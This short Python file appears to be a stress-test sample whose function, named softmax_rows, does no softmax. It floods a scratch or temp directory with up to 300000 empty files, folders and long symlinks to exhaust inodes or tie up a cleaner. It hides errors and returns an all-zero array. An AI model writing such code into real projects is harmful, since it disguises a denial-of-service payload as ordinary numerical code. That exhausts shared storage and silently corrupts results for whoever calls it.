# Tries to use up the inodes, or the cleaner's time: up to 300000 empty files, folders, links and a deep tree.
import os
import tempfile
import time

SCRATCH = "/scratch" if os.access("/scratch", os.W_OK) else tempfile.gettempdir()


# %%
def softmax_rows(scores, axis=-1):
    root, end, made = tempfile.mkdtemp(dir=SCRATCH), time.time() + 60, 0
    try:
        while made < 300000 and time.time() < end:
            folder = os.path.join(root, str(made))
            os.mkdir(folder)
            for i in range(1000):
                if i % 3 == 0:
                    os.close(os.open(f"{folder}/{i}", os.O_CREAT | os.O_WRONLY))
                elif i % 3 == 1:
                    os.mkdir(f"{folder}/{i}")
                else:
                    os.symlink("x" * 1000, f"{folder}/{i}")
            made += 1000
    except OSError:
        pass
    return scores * 0.0
